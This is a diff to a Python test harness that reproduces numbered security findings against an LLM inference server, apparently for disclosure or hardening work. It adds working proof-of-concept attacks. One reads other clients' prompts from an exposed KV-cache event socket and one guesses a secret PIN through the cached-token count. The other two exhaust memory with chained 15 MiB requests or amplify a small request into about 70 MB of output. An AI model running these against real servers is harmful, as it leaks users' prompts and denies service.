@@ -207,11 +207,68 @@ def empty_enum(server, scale):  # finding 9
     return post(server, "/v1/chat/completions", _chat_body(response_format=fmt))
 
 
+def kv_events_from_outside(server, scale):  # finding 4: another host subscribes to every client's prompts
+    import psutil
+    import zmq
+
+    outside = sorted({a.address for addrs in psutil.net_if_addrs().values() for a in addrs
+                      if a.family == socket.AF_INET and not a.address.startswith("127.")})
+    if not outside:
+        return "no address but the loopback's here"
+    sub = zmq.Context.instance().socket(zmq.SUB)
+    sub.connect(f"tcp://{outside[0]}:5557")
+    sub.setsockopt(zmq.SUBSCRIBE, b"")
+    time.sleep(0.5)
+    post(server, "/v1/completions", json.dumps({"prompt": "my pin is 4821 " * 4, "max_tokens": 4}).encode())
+    got = 0
+    while sub.poll(1000):
+        sub.recv_multipart()
+        got += 1
+    sub.close(linger=0)
+    return f"{got} event batches read from {outside[0]}"
+
+
+def chained_responses(server, scale):  # finding 5: 45 chained turns of 15 MiB (a reasoning summary, never tokenized)
+    summary = {"type": "reasoning", "id": "rs_1", "summary": [{"type": "summary_text", "text": "z" * int(15 * 2**20 * scale)}]}
+    previous, codes = None, []
+    for _ in range(45):
+        body = {"model": "demo", "input": [summary, {"role": "user", "content": "upper: abc"}], "max_output_tokens": 4,
+                "previous_response_id": previous}
+        r = httpx.post(server.url + "/v1/responses", json=body, timeout=600)
+        codes.append(r.status_code)
+        previous = r.json().get("id") if r.status_code == 200 else None
+    return " ".join(f"{c}x{codes.count(c)}" for c in sorted(set(codes))) + f"; RSS now {rss_mib(server.proc.pid):.0f} MiB"
+
+
+def scoring_amplified(server, scale):  # finding 6: 4.25 KB asking for ~70 MB (echo, logprobs 20, n 128)
+    ids = [10 + i % 90 for i in range(int(1023 * scale))]
+    body = json.dumps({"prompt": ids, "echo": True, "logprobs": 20, "max_tokens": 1, "n": 128}).encode()
+    t0 = time.perf_counter()
+    r = httpx.post(server.url + "/v1/completions", content=body, headers={"Content-Type": "application/json"}, timeout=600)
+    return f"{r.status_code}, {len(r.content) / 2**20:.1f} MiB in {time.perf_counter() - t0:.1f} s"
+
+
+def prefix_cache_oracle(server, scale):  # finding 8: another client guesses a PIN through cached_tokens
+    secret = "the vault code is 4821 and it opens the door under the old oak tree by the river " * 2
+
+    def cached(source: str, prompt: str) -> int:
+        with httpx.Client(transport=httpx.HTTPTransport(local_address=source), timeout=60) as c:
+            r = c.post(server.url + "/v1/completions", json={"prompt": prompt, "max_tokens": 2})
+        return r.json()["usage"]["prompt_tokens_details"]["cached_tokens"]
+
+    cached("127.0.0.1", secret)
+    guesses = {pin: cached(f"127.0.0.{2 + i}", secret.replace("4821", pin)) for i, pin in enumerate(("1234", "4821"))}
+    return "cached_tokens by guess: " + ", ".join(f"{pin}: {n}" for pin, n in guesses.items())
+
+
 TEXT_ATTACKS = {f.__name__: f for f in (tokenize_tool_messages, chat_tool_messages, long_tool_description,
                                         many_tool_descriptions, long_arguments, object_arguments, deep_arguments,
                                         n_times_draft, unfinished_bodies, exploding_schema, exploding_regex,
                                         schema_text, forced_tool, abandoned_builds, deep_constraint_text,
-                                        deep_responses_arguments, empty_enum)}
+                                        deep_responses_arguments, empty_enum, kv_events_from_outside,
+                                        chained_responses, scoring_amplified, prefix_cache_oracle)}
+# Server flags an attack needs beyond the defaults
+ATTACK_FLAGS = {"kv_events_from_outside": ["--kv-events-config", '{"enable_kv_cache_events": true}']}
 IMAGE_ATTACKS = {f.__name__: f for f in (image_bombs,)}
 
 
@@ -240,7 +297,7 @@ def main() -> None:
     with tempfile.TemporaryDirectory() as tmp:
         for name, attack in TEXT_ATTACKS.items():
             if not args.only or name in args.only:
-                run_one(name, attack, None, [], args.scale, tmp)
+                run_one(name, attack, None, ATTACK_FLAGS.get(name, []), args.scale, tmp)
         images = [name for name in IMAGE_ATTACKS if not args.only or name in args.only]
         if images:
             from blockdiff.model.tiny import make_tiny_model
